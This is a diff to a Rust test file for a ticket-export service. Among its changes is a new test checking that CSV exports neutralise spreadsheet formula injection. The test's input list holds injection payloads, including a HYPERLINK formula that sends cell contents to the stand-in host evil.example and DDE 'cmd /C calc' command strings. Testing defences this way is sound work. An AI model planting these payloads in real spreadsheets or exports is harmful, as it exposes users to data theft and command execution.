@@ -1,7 +1,7 @@
 //! Exports: whole under their name, or not there.
 
 use object_store::path::Path;
-use serde_json::Value;
+use serde_json::{Value, json};
 use sha2::{Digest, Sha256};
 use weirgate_jobs::{ComputeKpi, ExportFormat, GenerateExport, IngestTickets, IngestTimeEntries};
 
@@ -31,7 +31,12 @@ async fn app_with_a_day() -> TestApp {
 async fn exported(app: &TestApp, format: ExportFormat) -> (weirgate_jobs::Export, Vec<u8>) {
     let job = GenerateExport { tenant: "acme".into(), date: "2026-01-20".parse().unwrap(), format };
     let export = app.run(&job).await.unwrap();
-    let path = Path::from(format!("acme/2026-01-20.{format}"));
+    let path: String = sqlx::query_scalar("select object_path from exports where id = $1")
+        .bind(export.export_id)
+        .fetch_one(&app.db.pool)
+        .await
+        .unwrap();
+    let path = Path::from(path);
     let bytes = app
         .app
         .exports
@@ -62,6 +67,9 @@ async fn json_holds_the_kpis_the_tickets_and_the_time_of_the_day() {
 async fn csv_is_one_table_with_harmless_cells() {
     let app = app_with_a_day().await;
     let (_, bytes) = exported(&app, ExportFormat::Csv).await;
+    for line in std::str::from_utf8(&bytes).unwrap().split_inclusive("\"\n") {
+        assert!(line.starts_with('"') && line.ends_with("\"\n"), "each cell is quoted: {line:?}");
+    }
     let mut reader = csv::Reader::from_reader(bytes.as_slice());
     let headers = reader.headers().unwrap().clone();
     let column = |name: &str| headers.iter().position(|it| it == name).unwrap();
@@ -80,4 +88,53 @@ async fn writing_a_day_again_keeps_its_id() {
     assert_eq!(first, second);
     let (other, _) = exported(&app, ExportFormat::Csv).await;
     assert_ne!(first.export_id, other.export_id);
+}
+
+#[tokio::test]
+async fn no_field_of_a_ticket_is_a_formula() {
+    let app = TestApp::new().await;
+    tenant(&app.db.pool, "acme", "UTC").await;
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\",=1+1",
+        " =1+1",
+        "=1+1\n=2+2",
+    ];
+    let fields = ["board", "summary", "description", "company", "owner", "sla_status"];
+    let ticket = |(number, text): (usize, &&str)| {
+        let mut ticket = json!({
+            "cw_ticket_id": format!("-{number}"), "status": "New", "priority": "Low",
+            "created_at_remote": "2026-01-20T09:00:00Z", "updated_at_remote": "2026-01-20T10:00:00Z",
+            "estimated_hours": 1.5,
+        });
+        for field in fields {
+            ticket[field] = (**text).into();
+        }
+        ticket.to_string()
+    };
+    app.write("acme/tickets.jsonl", evil.iter().enumerate().map(ticket).collect::<Vec<_>>().join("\n"));
+    let ingested = app.run(&IngestTickets { tenant: "acme".into() }).await.unwrap();
+    assert_eq!((ingested.accepted, ingested.rejected), (evil.len() as u64, 0));
+    let (_, bytes) = exported(&app, ExportFormat::Csv).await;
+    let mut reader = csv::Reader::from_reader(bytes.as_slice());
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|it| it == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), evil.len());
+    for row in &rows {
+        assert_eq!(row.len(), headers.len());
+        let number: usize = row[column("id")].trim_start_matches('-').parse().unwrap();
+        for field in fields {
+            let cell = &row[column(field)];
+            // One of them begins with a quotation mark, which makes it no formula.
+            assert!(cell == format!("'{}", evil[number]) || evil[number] == "\",=1+1", "{cell:?}");
+        }
+        assert_eq!(&row[column("created_at_remote")], "2026-01-20T09:00:00Z");
+        assert_eq!(&row[column("estimated_hours")], "1.5");
+    }
 }
